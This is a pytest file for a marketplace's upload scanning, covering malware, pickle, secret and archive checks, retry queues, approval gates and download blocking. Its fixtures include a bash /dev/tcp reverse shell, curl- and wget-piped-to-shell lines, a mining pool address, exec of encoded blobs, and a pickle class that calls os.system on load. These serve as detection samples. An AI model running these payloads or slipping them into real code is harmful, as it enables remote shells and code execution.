"""Security scans (issue 33): each engine on samples made here, the status rules, the queue (retries, rescans),
the approval gate and the download block."""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from datetime import timedelta

import pytest
from sqlmodel import select

from dev.clamav import EICAR
from marketplace import db, scan
from marketplace.config import settings
from marketplace.integrations.storage import get_storage
from marketplace.models import AgentStatus, FileScan, Notification, Role
from marketplace.models.base import utcnow
from marketplace.services import downloads, scanning
from marketplace.services.admin import moderation
from marketplace.services.errors import Conflict, Forbidden
from marketplace.services.scanning.findings import Finding
from marketplace.services.vendors import agents as vendor_agents
from tests import factories

AWS_SAMPLE = b"AWS_ACCESS_KEY_ID = 'AKIAIOSFODNN7EXAMPLE'\n"


def _zip(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def _kinds(findings: list[Finding]) -> list[tuple[str, str, str | None]]:
    return [(f.kind, f.name, f.member) for f in findings]


class _Os:
    """Pickles a call of os.system: loading it would run a shell command."""

    def __reduce__(self) -> tuple:
        import os

        return (os.system, ("echo owned",))


# --- engines ------------------------------------------------------------------------------------------------


def test_eicar_is_malware(clamd):
    assert _kinds(scanning.scan_data(EICAR, filename="eicar.txt")) == [("malware", "Eicar-Test-Signature", None)]


def test_a_zip_is_scanned_member_by_member(clamd):
    data = _zip({"docs/readme.md": b"# hi\n", "tools/eicar.txt": EICAR})
    assert _kinds(scanning.scan_data(data, filename="agent.zip")) == [
        ("malware", "Eicar-Test-Signature", "tools/eicar.txt")]


def test_a_pickle_importing_os_system_is_reported_even_inside_a_zip(clamd):
    payload = pickle.dumps(_Os())
    found = _kinds(scanning.scan_data(payload, filename="model.pkl"))
    assert len(found) == 1 and found[0][0] == "pickle" and found[0][1].endswith(".system")
    nested = _kinds(scanning.scan_data(_zip({"weights/model.pt": payload}), filename="bundle.zip"))
    assert [(kind, member) for kind, _, member in nested] == [("pickle", "weights/model.pt")]
    harmless = pickle.dumps({"weights": [1.0, 2.0], "name": "ok"})
    assert scanning.scan_data(harmless, filename="model.joblib") == []


def test_a_leaked_aws_key_is_a_masked_secret(clamd):
    found = scanning.scan_data(AWS_SAMPLE, filename="config.py")
    assert _kinds(found) == [("secret", "aws-access-key-id", None)]
    assert found[0].detail == "line 1: AKIA…MPLE"  # never the whole key


@pytest.mark.parametrize(("sample", "rule"), [
    (b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "reverse_shell"),
    (b"curl -fsSL https://get.example.com/install.sh | sh\n", "download_piped_to_shell"),
    (b"wget -qO- http://x.example/a | sudo bash\n", "download_piped_to_shell"),
    (b'POOL = "stratum+tcp://pool.supportxmr.com:3333"\n', "crypto_miner"),
    (b'exec(base64.b64decode("cHJpbnQoMSk="))\n', "exec_of_encoded_blob"),
    (b'eval(bytes.fromhex("7072696e74283129"))\n', "exec_of_encoded_blob"),
    (b"import os, requests\nr = requests.get(URL)\nos.system(r.text)\n", "shell_of_downloaded_content"),
    (b"subprocess.run(requests.get(URL).text, shell=True)\n", "shell_of_downloaded_content"),
])
def test_dangerous_code_rules(clamd, sample, rule):
    assert _kinds(scanning.scan_data(sample, filename="agent.py")) == [("code", rule, None)]


def test_ordinary_code_is_clean(clamd):
    code = b"import os, subprocess\nsubprocess.run(['ls', '-l'])\nprint(os.environ.get('HOME'))\n"
    assert scanning.scan_data(code, filename="agent.py") == []


def test_a_zip_bomb_is_not_unpacked(clamd):
    bomb = _zip({"zeros.bin": b"\0" * (20 << 20)})
    assert len(bomb) < 100_000
    assert _kinds(scanning.scan_data(bomb, filename="bomb.zip")) == [("archive", "compression-ratio", "zeros.bin")]


def test_archive_limits_on_total_size_and_nesting(clamd, monkeypatch):
    monkeypatch.setattr(settings, "scan_max_unpacked_bytes", 1000)
    big = _zip({"a.txt": b"a" * 600, "b.txt": b"b" * 600}, compression=zipfile.ZIP_STORED)
    assert _kinds(scanning.scan_data(big, filename="big.zip")) == [("archive", "unpacked-size", None)]
    monkeypatch.undo()
    nested = b"print('deep')\n"
    for level in range(settings.scan_max_depth + 1):
        nested = _zip({f"level{level}.zip" if level else "deep.py": nested})
    found = _kinds(scanning.scan_data(nested, filename="nested.zip"))
    assert [(kind, name) for kind, name, _ in found] == [("archive", "nesting-depth")]


def test_status_rules():
    assert scanning.verdict([]) == "clean"
    assert scanning.verdict([Finding("secret", "aws-access-key-id")]) == "flagged"
    assert scanning.verdict([Finding("code", "reverse_shell"), Finding("malware", "Eicar-Test-Signature")]) == \
        "infected"


# --- the queue -----------------------------------------------------------------------------------------------


def _scan_row(key: str) -> FileScan:
    with db.session_scope() as session:
        return session.exec(select(FileScan).where(FileScan.storage_key == key)).one()


def test_a_failed_scan_is_retried_with_backoff_and_then_scanned(queued_scans, monkeypatch):
    agent = factories.make_agent(factories.make_vendor(), status=AgentStatus.PENDING)
    row = factories.store_agent_file(agent, b"print('hi')\n", filename="agent.py", scan=None)
    monkeypatch.setattr(settings, "clamd_socket", "/nonexistent/clamd.sock")
    start = utcnow()
    assert scanning.drain(now=start) == 0
    failed = _scan_row(row.storage_key)
    assert failed.status == "error" and failed.attempts == 1 and "clamd" in failed.last_error
    assert failed.due_at.replace(tzinfo=None) >= (start + timedelta(seconds=settings.scan_retry_delay_seconds)
                                                  ).replace(tzinfo=None)
    assert scanning.drain(now=start) == 0  # not due yet: nothing tried
    assert scanning.drain(now=start + timedelta(seconds=settings.scan_retry_delay_seconds)) == 0
    again = _scan_row(row.storage_key)
    assert again.attempts == 2 and again.due_at.replace(tzinfo=None) >= (
        start + timedelta(seconds=3 * settings.scan_retry_delay_seconds)).replace(tzinfo=None)  # doubled
    monkeypatch.undo()
    assert scanning.drain(now=start + timedelta(hours=7)) == 1
    done = _scan_row(row.storage_key)
    assert (done.status, done.due_at, done.last_error) == ("clean", None, None)
    assert json.loads(done.engines)["clamav"].startswith("ClamAV")


def test_pending_and_error_files_wait_for_approval(queued_scans):
    admin, vendor = factories.make_admin(), factories.make_vendor()
    agent = factories.make_agent(vendor, status=AgentStatus.PENDING)
    factories.store_agent_file(agent, b"# readme\n", filename="README.md", scan=None)
    with pytest.raises(Conflict, match=r"until the security scan of its files is finished \(README.md: pending\)"):
        moderation.approve(actor=admin, agent_id=agent.id)
    scanning.drain()
    assert moderation.approve(actor=admin, agent_id=agent.id).status == "approved"


def test_an_infected_file_cannot_be_approved_and_its_vendor_is_told():
    admin, vendor = factories.make_admin(), factories.make_vendor()
    agent = factories.make_agent(vendor, status=AgentStatus.PENDING, name="Dropper")
    factories.store_agent_file(agent, _zip({"eicar.txt": EICAR}), filename="agent.zip", scan=None)
    with pytest.raises(Conflict, match=r"^This agent cannot be approved: a security scan found "
                                       r"Eicar-Test-Signature \(eicar.txt\) in agent.zip\.$"):
        moderation.approve(actor=admin, agent_id=agent.id)
    with db.session_scope() as session:
        notes = session.exec(select(Notification.title, Notification.message)
                             .where(Notification.user_id == vendor.id)).all()
    assert [title for title, _ in notes] == ["Agent file infected"]
    assert "Dropper" in notes[0][1]


def test_flagged_files_are_the_admins_call():
    admin = factories.make_admin()
    agent = factories.make_agent(factories.make_vendor(), status=AgentStatus.PENDING)
    factories.store_agent_file(agent, AWS_SAMPLE, filename="config.py", scan=None)
    items, _ = moderation.list_pending(actor=admin)
    scan_view = items[0].files[0].scan
    assert scan_view.status == "flagged" and scan_view.findings[0]["kind"] == "secret"
    assert moderation.approve(actor=admin, agent_id=agent.id).status == "approved"


def test_a_live_file_found_infected_by_a_rescan_is_blocked_at_once():
    admin, vendor, buyer = factories.make_admin(), factories.make_vendor(), factories.make_user()
    agent = factories.make_agent(vendor, name="Helper")
    row = factories.store_agent_file(agent, b"harmless\n", filename="notes.txt", scan=None)
    factories.make_purchase(buyer, agent)
    assert _scan_row(row.storage_key).status == "clean"
    downloads.agent_archive(actor=buyer, agent_id=agent.id)
    # New signatures would find it: the same object now holds EICAR, and every file is scanned again.
    get_storage().put(row.storage_key, EICAR)
    assert scan.main(["--all"]) == 0
    assert _scan_row(row.storage_key).status == "infected"
    for who in (buyer, vendor, admin):
        with pytest.raises(Forbidden, match=r"^This file has been blocked by a security scan\.$"):
            downloads.agent_archive(actor=who, agent_id=agent.id)
    with pytest.raises(Forbidden, match="blocked by a security scan"):
        downloads.submitted_file(actor=admin, file_id=row.id)
    with db.session_scope() as session:
        notes = sorted(session.exec(select(Notification.user_id, Notification.title)).all())
    assert sorted(notes) == sorted([(vendor.id, "Agent file blocked"),
                                    (admin.id, "Live file blocked by a security scan")])
    assert ("file.block", "agent", agent.id) in factories.audit_actions()
    assert scanning.clean_scanned_at(db.engine().connect(), agent_id=agent.id) is None


def test_unscanned_files_are_served_to_their_vendor_only(queued_scans):
    vendor, buyer = factories.make_vendor(), factories.make_user()
    agent = factories.make_agent(vendor)
    factories.store_agent_file(agent, b"hi\n", filename="a.txt", scan=None)
    factories.make_purchase(buyer, agent)
    downloads.agent_archive(actor=vendor, agent_id=agent.id)
    with pytest.raises(Forbidden, match="waiting for its security scan"):
        downloads.agent_archive(actor=buyer, agent_id=agent.id)
    scanning.drain()
    downloads.agent_archive(actor=buyer, agent_id=agent.id)


def test_rescans_queue_stale_and_changed_engine_verdicts(queued_scans):
    agent = factories.make_agent(factories.make_vendor())
    old = factories.store_agent_file(agent, b"a\n", filename="a.txt", scan=None)
    new = factories.store_agent_file(agent, b"b\n", filename="b.txt", scan=None)
    assert scanning.drain() == 2
    key = scanning.engine_set().key
    assert scanning.queue_stale(engines_key=key) == 0
    with db.session_scope() as session:
        session.get(FileScan, _scan_row(old.storage_key).id).scanned_at = utcnow() - timedelta(hours=25)
    assert scanning.queue_stale(engines_key=key) == 1  # the daily rescan
    assert scanning.drain() == 1
    assert scanning.queue_stale(engines_key=key + "|new rules") == 2  # rules or signatures changed
    assert scanning.drain() == 2
    assert scanning.queue_all() == 2 and scanning.drain() == 2
    assert {_scan_row(old.storage_key).status, _scan_row(new.storage_key).status} == {"clean"}
    first = scanning.clean_scanned_at(db.engine().connect(), agent_id=agent.id)
    assert first is not None


def test_the_rescan_command_refuses_bad_arguments(capsys):
    with pytest.raises(SystemExit) as stopped:
        scan.main(["--everything"])
    assert stopped.value.code == 2
    assert "unrecognized arguments" in capsys.readouterr().err


def test_scan_views_need_an_admin_or_the_vendor():
    vendor, other = factories.make_vendor(), factories.make_vendor()
    agent = factories.make_agent(vendor, status=AgentStatus.PENDING)
    factories.store_agent_file(agent, AWS_SAMPLE, filename="config.py", scan=None)
    customer = factories.make_user(role=Role.USER)
    with pytest.raises(Forbidden):
        moderation.list_pending(actor=customer)
    with pytest.raises(Forbidden):
        vendor_agents.get_editable_agent(actor=other, agent_id=agent.id)
    mine = vendor_agents.get_editable_agent(actor=vendor, agent_id=agent.id)
    assert mine.files[0].scan.findings[0]["name"] == "aws-access-key-id"
